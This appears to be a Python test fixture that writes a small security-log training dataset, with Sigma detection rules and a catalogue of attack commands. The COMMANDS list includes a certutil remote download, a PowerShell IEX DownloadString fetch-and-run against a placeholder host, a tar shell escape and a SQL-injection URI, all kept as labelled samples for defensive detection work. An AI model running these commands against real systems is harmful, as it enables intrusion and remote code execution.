"""A small folder of training data, written for this project: sample events, rules, commands."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from dataclasses import dataclass
from pathlib import Path

from loglm_bridge.lab.data.corpus import CorpusEvent
from loglm_bridge.lab.train.calibrate import reserved_for_calibration
from tests.lab.tiny import TECHNIQUES, sample_events

#: Six rules; each id ends with its number.
RULES = r"""
title: Certutil downloads
id: 00000000-0000-4000-8000-000000000001
level: high
tags: [attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  image: {Image|endswith: '\certutil.exe'}
  line: {CommandLine|contains|all: ['-urlcache', ' -f ']}
  filter: {ParentImage|endswith: '\msiexec.exe'}
  condition: image and line and not filter
---
title: Run key
id: 00000000-0000-4000-8000-000000000002
level: medium
tags: [attack.t1547.001, attack.persistence]
logsource: {product: windows, category: registry_set}
detection:
  selection_run: {TargetObject|contains: '\CurrentVersion\Run\'}
  selection_once: {TargetObject|endswith: '\RunOnce'}
  condition: 1 of selection_*
---
title: Encoded command
id: 00000000-0000-4000-8000-000000000003
level: high
tags: [attack.t1059.001]
logsource: {product: windows, category: process_creation}
detection:
  selection: {CommandLine|re: 'powershell\.exe\s+-e(nc)?\s+[A-Za-z0-9+/]{20,40}={0,2}'}
  condition: selection
---
title: Trail stopped
id: 00000000-0000-4000-8000-000000000004
level: medium
tags: [attack.t1098]
logsource: {product: aws, service: cloudtrail}
detection:
  selection: {eventSource: cloudtrail.amazonaws.com, eventName: [StopLogging, DeleteTrail]}
  condition: selection
---
title: Kernel words
id: 00000000-0000-4000-8000-000000000005
level: low
tags: [attack.t1543.003]
logsource: {product: linux}
detection:
  keywords: ['module verification failed', 'segfault at']
  condition: keywords
---
title: Service starts a shell
id: 00000000-0000-4000-8000-000000000006
level: critical
tags: [attack.t9999, attack.t1543.003]
logsource: {product: windows, service: system}
detection:
  selection: {Provider_Name: Service Control Manager, EventID: 7045, ImagePath|contains: 'cmd?exe'}
  condition: selection
"""

#: Documents that are no usable rules.
UNUSABLE = """
title: No technique
id: 00000000-0000-4000-8000-000000000007
logsource: {product: windows, category: process_creation}
detection: {selection: {Image: a}, condition: selection}
tags: [attack.persistence]
---
title: No condition that parses
id: 00000000-0000-4000-8000-000000000008
logsource: {product: windows, category: process_creation}
detection: {selection: {Image: a}, condition: selection and and}
tags: [attack.t1105]
---
[not, a, rule]
"""

#: Entries of command catalogues: name, kind, text.
COMMANDS = [
    ("lolbas/certutil", "command:command_prompt", "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH_ABSOLUTE:.exe}"),
    ("atomic/T1059.001", "command:powershell", "$x = 'a'\nIEX (New-Object Net.WebClient).DownloadString('http://x')"),
    ("gtfobins/tar", "command:bash", "tar xf /path/to/input-file -I '/bin/sh -c id'"),
    ("fwaf/sqli", "http:uri", "/item?id=1' union select 1,2-- x"),
]


@dataclass(frozen=True)
class TinyData:
    """The data folder, the file of the split, and the held-out recordings."""

    folder: Path
    split: Path
    held_out: frozenset[str]


def write_rules(path: Path, text: str = RULES + "---" + UNUSABLE) -> Path:
    """Write a tar archive with the rules in one YAML file, and a file that is no YAML."""
    with tarfile.open(path, "w:gz") as tar:
        for name, data in (("rules/all.yml", text.encode()), ("rules/README.md", b"[]: {")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def write_rows(path: Path, rows: list[dict[str, object]]) -> Path:
    """Write compressed JSON lines."""
    with gzip.open(path, "wt", encoding="utf-8") as file:
        file.writelines(json.dumps(row) + "\n" for row in rows)
    return path


def groups(source: str, calibration: bool, count: int) -> list[str]:
    """Names of recordings that are, or are not, reserved for calibration."""
    events = (CorpusEvent("", source, f"r{i}", 0, "", (), (), False) for i in range(999))
    return [e.group for e in events if reserved_for_calibration(e) is calibration][:count]


def write(folder: Path) -> TinyData:
    """Write recordings, machines, event-labelled tests, rules, commands, catalogue and split."""
    (folder / "attack").mkdir(parents=True)
    events = [e for e in sample_events() if e.raw.strip()]
    source = "otrf_security_datasets"
    names = groups(source, calibration=False, count=8) + groups(source, calibration=True, count=2)
    rows = []
    for i, name in enumerate(names):
        chosen = [events[0], events[11], *(events[(7 * i + k) % len(events)] for k in range(12))]
        for k, event in enumerate(chosen):
            hits = [["a-rule", "high", [TECHNIQUES[i]]]] if k % 4 == 2 else []
            rows.append(row(source, name, event, k, "malicious", [TECHNIQUES[i]], hits))
    held_out_only = {"raw": '{"eventName": "Heldoutword", "eventSource": "heldoutword.example"}', "sourcetype": ""}
    rows.append({**rows[0], **held_out_only, "id": "held", "group": names[2], "sigma": []})
    for k in range(12):  # a word of one training recording, frequent enough there to become a piece
        canary = {"raw": json.dumps({"eventName": f"Onlyheresecret{k}", "eventSource": "onlyheresecret.example"})}
        rows.append({**rows[0], **canary, "id": f"canary{k}", "sourcetype": "", "sigma": []})
    write_rows(folder / f"{source}.jsonl.gz", rows)
    machines = groups("evtx_baseline", calibration=False, count=3) + groups("evtx_baseline", calibration=True, count=2)
    ordinary = [row("evtx_baseline", n, e, k, "benign", [], []) for n in machines for k, e in enumerate(events[:30])]
    write_rows(folder / "evtx_baseline.jsonl.gz", ordinary)
    commands = [
        {"id": g, "source": "aux_commands", "group": g, "raw": raw, "sourcetype": kind, "techniques": ["T1105"]}
        for g, kind, raw in COMMANDS
    ]
    write_rows(folder / "aux_commands.jsonl.gz", commands)
    write_rules(folder / "sigma_rules.tar.gz")
    catalogue = {"revoked": {"T9999": "T1078"}, "v19": {}, "techniques": {t: {} for t in TECHNIQUES}}
    (folder / "attack" / "enterprise.json.gz").write_bytes(gzip.compress(json.dumps(catalogue).encode()))
    split = folder.parent / "split.json"
    split.write_text(json.dumps({source: [names[2], names[5]]}))
    return TinyData(folder, split, frozenset((names[2], names[5])))


def row(source, group, event, number, label, techniques, hits) -> dict[str, object]:
    """One line of a data file."""
    return {
        "id": f"{source}/{group}/{number}",
        "source": source,
        "group": group,
        "raw": event.raw,
        "sourcetype": event.sourcetype,
        "label": label,
        "techniques": techniques,
        "sigma": hits,
    }
